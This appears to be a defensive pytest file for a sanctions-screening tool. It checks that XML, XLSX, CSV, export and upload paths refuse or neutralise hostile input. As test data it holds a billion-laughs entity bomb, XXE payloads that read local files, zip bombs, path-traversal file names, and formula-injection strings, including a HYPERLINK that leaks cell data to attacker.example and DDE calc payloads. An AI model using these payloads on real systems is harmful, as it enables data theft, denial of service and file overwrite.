"""Hostile input beyond random bytes (tests/test_fuzz_parsers.py does those):
XML entity expansion and external entities, zip/XLSX bombs, spreadsheet
formula injection in every export, and path traversal in upload names."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest

from clearance.errors import ClearanceError, InputError, SourceError

from .test_batch_support import copy_home, warm_bundled_home  # noqa: F401  (session fixture)

FIXTURES = Path(__file__).resolve().parent / "fixtures"
ROOT = FIXTURES.parents[1]
SCREEN_CLI = [sys.executable, "-c", "import sys, clearance.cli.screen; from clearance.cli import main; sys.argv[0] = 'clearance'; main()"]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
SHEET_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"


# -- helpers --------------------------------------------------------------------------------------


def xlsx_with_sheet(path: Path, sheet_xml: bytes | None = None, *, stream=None) -> Path:
    """A real two-row workbook (openpyxl) whose first sheet's XML is replaced."""
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["name", "country"])
    book.active.append(["Hikvision", "CN"])
    buffer = io.BytesIO()
    book.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                if stream is not None:
                    with out.open(info.filename, "w") as fh:
                        stream(fh)
                    continue
                out.writestr(info.filename, sheet_xml)
            else:
                out.writestr(info, source.read(info.filename))
    return path


LAUGHS = (
    '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
    '<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">'
    '<!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">'
    '<!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">'
    '<!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">'
    '<!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">'
    '<!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">'
    '<!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">]>'
)


def _in_child(code: str, *args: str, timeout: float) -> tuple[str, float]:
    """Run ``code`` in a child process with a time bound; returns (stdout, seconds) or fails on a hang."""
    started = time.monotonic()
    try:
        result = subprocess.run([sys.executable, "-c", code, *args], capture_output=True, text=True, timeout=timeout)
    except subprocess.TimeoutExpired:
        pytest.fail(f"no answer within {timeout:.0f}s: the reader hangs on this input")
    assert result.returncode == 0, result.stderr[-3000:]
    return result.stdout.strip(), time.monotonic() - started


READ_TABLE = """
import sys, resource
resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))  # a runaway allocation fails here, not the machine
from clearance.errors import ClearanceError
from clearance.tabular import open_table
try:
    table = open_table(sys.argv[1])
    n = sum(1 for _ in table.rows())
    print(f"read {n} rows")
except ClearanceError as exc:
    lines = str(exc).strip().splitlines()
    print(f"refused ({len(lines)} line{'s' if len(lines) > 1 else ''}): {lines[0]}")
peak = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss // 1024
print(f"peak {peak}")
"""


def _read_table_in_child(path: Path, timeout: float) -> tuple[str, int, float]:
    out, seconds = _in_child(READ_TABLE, str(path), timeout=timeout)
    first, peak = out.splitlines()[0], int(out.splitlines()[-1].split()[1])
    return first, peak, seconds


# -- XML: entity expansion and external entities ---------------------------------------------------


def test_nmap_refuses_entity_expansion_and_external_entities(tmp_path):
    from clearance.assets.nmap import read_nmap

    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-TOKEN")
    host = '<host><status state="up"/><address addr="10.0.0.1" addrtype="ipv4"/><hostnames><hostname name="&x;"/></hostnames></host>'
    cases = {
        "laughs.xml": f'<?xml version="1.0"?>{LAUGHS.replace("lolz", "nmaprun")}<nmaprun>{host.replace("&x;", "&lol9;")}</nmaprun>',
        "xxe-file.xml": f'<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY x SYSTEM "file://{secret}">]><nmaprun>{host}</nmaprun>',
        "xxe-http.xml": f'<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY x SYSTEM "http://127.0.0.1:9/x">]><nmaprun>{host}</nmaprun>',
        "param-entity.xml": f'<?xml version="1.0"?><!DOCTYPE nmaprun [<!ENTITY % p SYSTEM "file://{secret}"> %p;]><nmaprun>{host.replace("&x;", "h")}</nmaprun>',
    }
    for name, xml in cases.items():
        path = tmp_path / name
        path.write_text(xml)
        started = time.monotonic()
        with pytest.raises(InputError) as info:
            read_nmap(path)
        assert time.monotonic() - started < 5
        message = str(info.value)
        assert "\n" not in message and "TOP-SECRET" not in message
        assert "refused" in message or "entit" in message, message


def test_nmap_with_an_unknown_encoding_is_refused_in_one_line(tmp_path):
    from clearance.assets.nmap import read_nmap

    path = tmp_path / "scan.xml"
    path.write_text('<?xml version="1.0" encoding="UT2-8"?>\n<nmaprun><host><status state="up"/>'
                    '<address addr="10.0.0.1" addrtype="ipv4"/></host></nmaprun>\n')
    with pytest.raises(InputError) as info:
        read_nmap(path)
    assert "\n" not in str(info.value)


def test_un_list_refuses_entity_expansion_and_external_entities(tmp_path):
    from clearance.sources import un

    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-TOKEN")
    body = "<CONSOLIDATED_LIST><INDIVIDUALS><INDIVIDUAL><DATAID>1</DATAID><FIRST_NAME>&x;</FIRST_NAME></INDIVIDUAL></INDIVIDUALS><ENTITIES/></CONSOLIDATED_LIST>"
    cases = {
        "laughs": LAUGHS.replace("lolz", "CONSOLIDATED_LIST") + body.replace("&x;", "&lol9;"),
        "xxe": f'<!DOCTYPE CONSOLIDATED_LIST [<!ENTITY x SYSTEM "file://{secret}">]>' + body,
    }
    for name, xml in cases.items():
        folder = tmp_path / name
        folder.mkdir()
        (folder / "consolidated.xml").write_text('<?xml version="1.0"?>' + xml)
        with pytest.raises(SourceError) as info:
            list(un.parse(folder / "consolidated.xml", "un-sc"))
        assert "TOP-SECRET" not in str(info.value) and "\n" not in str(info.value)


def test_xlsx_with_entities_is_refused_not_expanded(tmp_path):
    sheet = (f'<?xml version="1.0"?>{LAUGHS.replace("lolz", "worksheet")}<worksheet xmlns="{SHEET_NS}"><sheetData>'
             '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
             '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>').encode()
    path = xlsx_with_sheet(tmp_path / "laughs.xlsx", sheet)
    first, peak, seconds = _read_table_in_child(path, timeout=60)
    assert first.startswith("refused"), first
    assert "lol" not in first
    assert seconds < 20 and peak < 1024, (seconds, peak)


def test_xlsx_with_entities_is_refused_in_one_line(tmp_path):
    sheet = (f'<?xml version="1.0"?>{LAUGHS.replace("lolz", "worksheet")}<worksheet xmlns="{SHEET_NS}"><sheetData>'
             '<row r="1"><c r="A1" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>').encode()
    first, _, _ = _read_table_in_child(xlsx_with_sheet(tmp_path / "laughs.xlsx", sheet), timeout=60)
    assert first.startswith("refused (1 line)"), first


# -- zip and XLSX bombs ----------------------------------------------------------------------------


def test_xlsx_sparse_dimension_bomb_is_bounded(tmp_path):
    sheet = (f'<?xml version="1.0"?><worksheet xmlns="{SHEET_NS}"><dimension ref="A1:XFD1048576"/><sheetData>'
             '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
             '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData></worksheet>').encode()
    path = xlsx_with_sheet(tmp_path / "sparse.xlsx", sheet)
    assert path.stat().st_size < 10_000
    first, peak, seconds = _read_table_in_child(path, timeout=12)
    assert seconds < 10 and peak < 1024


def test_xlsx_decompression_bomb_is_refused_quickly(tmp_path):
    def bomb(fh) -> None:
        fh.write(f'<?xml version="1.0"?><worksheet xmlns="{SHEET_NS}"><sheetData>'
                 '<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'.encode())
        block = b" " * (1 << 20)
        for _ in range(128):
            fh.write(block)
        fh.write(b"</sheetData></worksheet>")

    path = xlsx_with_sheet(tmp_path / "bomb.xlsx", stream=bomb)
    with zipfile.ZipFile(path) as z:
        assert sum(i.file_size for i in z.infolist()) > 128 * 2**20 > 500 * path.stat().st_size
    first, peak, seconds = _read_table_in_child(path, timeout=20)
    assert first.startswith("refused"), first
    assert seconds < 5, seconds


@pytest.mark.parametrize("part", ["sheet", "manifest"])
def test_damaged_xlsx_xml_is_refused_with_one_line(tmp_path, part):
    from openpyxl import Workbook

    from clearance.tabular import open_table

    book = Workbook()
    for row in (["name", "country"], ["Hikvision", "CN"], ["Mahan Air", "IR"]):
        book.active.append(row)
    buffer = io.BytesIO()
    book.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    path = tmp_path / f"damaged-{part}.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as out:
        for info in source.infolist():
            data = source.read(info.filename)
            if part == "sheet" and info.filename == "xl/worksheets/sheet1.xml":
                data = data.replace(b"</row>", b"</rowx>", 2)[: len(data)]
            if part == "manifest" and info.filename == "[Content_Types].xml":
                data = data.replace(b"<Types ", b"<Types x ", 1)
            out.writestr(info.filename, data)
    with pytest.raises(ClearanceError) as info:
        list(open_table(path).rows())
    assert "\n" not in str(info.value).strip()


def test_oversized_cells_and_lines_are_bounded(tmp_path):
    """A 20 MB cell and a 20 MB unterminated quote: rows come out as errors, memory stays bounded."""
    path = tmp_path / "big-cells.csv"
    with path.open("w", encoding="utf-8") as fh:
        fh.write("name,country\n")
        fh.write("Hikvision,CN\n")
        fh.write("A" * (20 << 20) + ",US\n")
        fh.write('"never closed,' + "B" * (20 << 20) + "\n")
    first, peak, seconds = _read_table_in_child(path, timeout=60)
    assert first == "read 3 rows", first
    assert peak < 1024 and seconds < 30, (peak, seconds)


# -- formula injection: every export ----------------------------------------------------------------


def _csv_cells(path: Path):
    with path.open(encoding="utf-8-sig", newline="") as fh:
        for line in csv.reader(fh):
            yield from line


def _xlsx_cells(path: Path):
    from openpyxl import load_workbook

    book = load_workbook(path)  # not read-only: formula cells keep data_type "f"
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{sheet.title}!{cell.coordinate} is a formula: {cell.value!r}"
                if cell.value is not None:
                    yield str(cell.value) if not isinstance(cell.value, str) else cell.value


def assert_no_formulas(cells, planted: list[str]) -> int:
    """No cell starts like a formula; the planted payloads are all there, quoted with a leading '."""
    seen = 0
    texts = []
    for value in cells:
        assert not value.startswith(FORMULA_START), f"formula-like cell exported: {value[:80]!r}"
        texts.append(value)
        seen += 1
    joined = "\n".join(texts)
    for payload in planted:
        assert "'" + payload in joined, f"payload {payload[:40]!r} missing (or not neutralised) in the export"
    return seen


@pytest.fixture
def screen_home(warm_bundled_home, tmp_path, monkeypatch):  # noqa: F811
    """A writable copy of the warm bundled store, and CLEARANCE_HOME pointing at it (jobs, caches)."""
    home = tmp_path / "home"
    home.mkdir()
    monkeypatch.setenv("CLEARANCE_HOME", str(home))
    monkeypatch.delenv("CLEARANCE_DB", raising=False)
    return copy_home(warm_bundled_home, home)


def _run(cli, *args, home: Path) -> subprocess.CompletedProcess:
    env = dict(os.environ, CLEARANCE_HOME=str(home), COLUMNS="200")
    env.pop("CLEARANCE_DB", None)
    return subprocess.run([*cli, *args], env=env, capture_output=True, text=True, timeout=300)


def test_screen_exports_neutralise_formulas(screen_home, tmp_path):
    planted = ['=HYPERLINK("http://attacker.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "=1+1", "=Hikvision"]
    for fmt in ("csv", "xlsx", "html"):
        out = tmp_path / f"results.{fmt}"
        result = _run(SCREEN_CLI, "screen", str(FIXTURES / "hostile_formulas.csv"), "-o", str(out), "-q", home=screen_home)
        assert result.returncode == 1, result.stderr  # the listed name is still found
        if fmt == "csv":
            assert assert_no_formulas(_csv_cells(out), planted) > 50
        elif fmt == "xlsx":
            assert assert_no_formulas(_xlsx_cells(out), planted) > 50
        else:
            html = out.read_text(encoding="utf-8")
            assert "<script>alert(1)</script>" not in html and "<img src=x" not in html
            assert "&lt;script&gt;" in html  # the flagged row is shown, escaped


def test_asset_exports_neutralise_formulas(tmp_path):
    from clearance.assets import screen_inventory

    planted = ["=cmd|' /C calc'!A0", "+Ezviz", "-DS-2CD2143G2-I", "@cam-lobby", "=pc-4"]
    for fmt in ("csv", "xlsx", "html"):
        out = tmp_path / f"assets.{fmt}"
        screen_inventory(FIXTURES / "hostile_inventory.csv", output=out, fmt=fmt)
        if fmt == "csv":
            assert_no_formulas(_csv_cells(out), planted)
        elif fmt == "xlsx":
            assert_no_formulas(_xlsx_cells(out), planted)
        else:
            html = out.read_text(encoding="utf-8")
            assert "<script>alert(1)</script>" not in html


def _audit_csv(home: Path, actor: str) -> list[list[str]]:
    """Screen the hostile file, have a reviewer decide an alert with a formula-like reason, export the trail as CSV."""
    from sqlalchemy import select

    from clearance.cases import audit, ensure_tables, review, users
    from clearance.cases.tables import users as users_table
    from clearance.cases.users import Principal
    from clearance.screen.batch import screen_file
    from clearance.store import open_store
    from clearance.store import runs as r

    store = open_store(f"sqlite:///{home / 'clearance.db'}", initialise=False)
    try:
        ensure_tables(store.engine)
        summary = screen_file(store, FIXTURES / "hostile_formulas.csv", home / "out.jsonl", workers=1)
        with audit.acting_as(actor):
            users.add_user(store, "formula-reviewer", "reviewer")
        with store.engine.connect() as conn:
            uid = conn.execute(select(users_table.c.id).where(users_table.c.name == "formula-reviewer")).scalar()
            alert_id = conn.execute(select(r.alerts.c.id).where(r.alerts.c.run_id == summary.run_id)).scalars().first()
        review.sync(store)
        reason = '=HYPERLINK("http://attacker.example","x") needs a second look'
        review.decide(store, alert_id, "escalated", reason, Principal(uid, "formula-reviewer", "reviewer", "test"))
        out = io.StringIO()
        audit.export(store, out, "csv")
    finally:
        store.engine.dispose()
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert len(rows) >= 3 and any("attacker.example" in v for row in rows for v in row)
    return rows


def test_audit_csv_export_has_no_formula_cells(screen_home):
    """Decision reasons, user names and every other audited text: no CSV cell starts like a formula."""
    for row in _audit_csv(screen_home, "cli:tester"):
        for value in row:
            assert not value.startswith(FORMULA_START), f"formula-like cell in the audit export: {value[:80]!r}"


def test_audit_csv_export_neutralises_any_actor(screen_home):
    for row in _audit_csv(screen_home, "=cmd|' /C calc'!A0"):
        for value in row:
            assert not value.startswith(FORMULA_START), f"formula-like cell in the audit export: {value[:80]!r}"


# -- uploads: path traversal in file names ------------------------------------------------------------


@pytest.fixture
def api(screen_home):
    """The API in this process (jobs in threads) over a copy of the bundled store; admin and analyst keys."""
    from fastapi.testclient import TestClient

    from clearance.api import create_app
    from clearance.api.config import Settings
    from clearance.cases import ensure_tables, users
    from clearance.store import open_store

    store = open_store(f"sqlite:///{screen_home / 'clearance.db'}", initialise=False)
    ensure_tables(store.engine)
    keys = {role: users.add_user(store, f"{role}-h", role, actor="test")[1] for role in ("analyst", "admin")}
    app = create_app(store, Settings(jobs_inline=True, rate_per_minute=10**6, rate_burst=10**6), warm=False)
    with TestClient(app) as client:
        client.keys = keys
        client.home = screen_home
        yield client
    store.engine.dispose()


def _files_outside(root: Path, inside: Path) -> set[Path]:
    return {p for p in root.rglob("*") if p.is_file() and inside not in p.parents}


TRAVERSALS = ["../../etc/x.csv", "/etc/x.csv", "..\\..\\windows\\x.csv", "....//....//x.csv", "%2e%2e%2fx.csv", "jobs/../../x.csv"]


def test_screen_file_upload_names_cannot_escape(api, tmp_path):
    jobs_dir = api.home / "jobs"
    before = _files_outside(tmp_path, jobs_dir)
    data = (FIXTURES / "hostile_formulas.csv").read_bytes()
    for name in TRAVERSALS:
        response = api.post("/screen/file", files={"file": (name, data, "text/csv")}, headers={"Authorization": f"ApiKey {api.keys['analyst']}"})
        assert response.status_code == 202, response.text
        job = response.json()
        assert "/" not in job["filename"] and "\\" not in job["filename"] and job["filename"] not in (".", ".."), job["filename"]
        for _ in range(300):
            job = api.get(f"/jobs/{job['id']}", headers={"Authorization": f"ApiKey {api.keys['analyst']}"}).json()
            if job["state"] in ("done", "failed"):
                break
            time.sleep(0.1)
        assert job["state"] == "done", job
        stored = list((jobs_dir / job["id"]).iterdir())
        assert {p.name for p in stored} >= {"input", "results.jsonl"}, stored
        assert [p.name for p in (jobs_dir / job["id"] / "input").iterdir()] == [job["filename"]]  # kept inside the job's folder
        for fmt, reader in (("csv", None), ("xlsx", None)):
            got = api.get(f"/jobs/{job['id']}/results?format={fmt}", headers={"Authorization": f"ApiKey {api.keys['analyst']}"})
            assert got.status_code == 200
            disposition = got.headers.get("content-disposition", "")
            offered = disposition.split("filename", 1)[-1].strip('=*"')
            assert "/" not in offered and "\\" not in offered, disposition
            target = tmp_path / f"download.{fmt}"
            target.write_bytes(got.content)
            cells = _csv_cells(target) if fmt == "csv" else _xlsx_cells(target)
            assert_no_formulas(cells, ["=Hikvision"])
    for name in ("..", "../", "../../etc/x", "x.exe", ""):
        response = api.post("/screen/file", files={"file": (name, data, "text/csv")}, headers={"Authorization": f"ApiKey {api.keys['analyst']}"})
        assert response.status_code in (400, 422), (name, response.status_code, response.text)
    assert _files_outside(tmp_path, jobs_dir) - before - {tmp_path / "download.csv", tmp_path / "download.xlsx"} == set()


def test_list_import_upload_names_cannot_escape(api, tmp_path):
    before = _files_outside(tmp_path, api.home / "jobs")
    body = b"name,aliases,country,schema,identifiers,note\nTraversal Test Co,,US,Company,,hostile upload\n"
    response = api.post(
        "/lists/hostile-list/import",
        files=[("files", ("../../../../tmp/evil.csv", body, "text/csv"))],
        headers={"Authorization": f"ApiKey {api.keys['admin']}"},
    )
    assert response.status_code == 200, response.text
    assert response.json()["snapshot"]["entity_count"] == 1
    assert _files_outside(tmp_path, api.home / "jobs") == before
    assert not Path("/tmp/evil.csv").exists() or Path("/tmp/evil.csv").read_bytes() != body


def test_list_import_errors_name_the_upload_not_the_servers_copy(api):
    admin = {"Authorization": f"ApiKey {api.keys['admin']}"}
    bad = api.post("/lists/us-ofac-sdn/import", files=[("files", ("sdn.csv", b"1,broken\n", "text/csv"))], headers=admin)
    assert bad.status_code == 400 and "sdn.csv" in bad.json()["detail"], bad.text
    assert "clearance-import-" not in bad.text and "/tmp" not in bad.text
    for source, captured in (("Bad Id!", "2020-01"), ("hostile-list", "2020-99-99")):
        r = api.post(f"/lists/{source}/import", files=[("files", ("a.csv", b"name\nX Co\n", "text/csv"))], data={"captured": captured}, headers=admin)
        assert r.status_code == 400, r.text
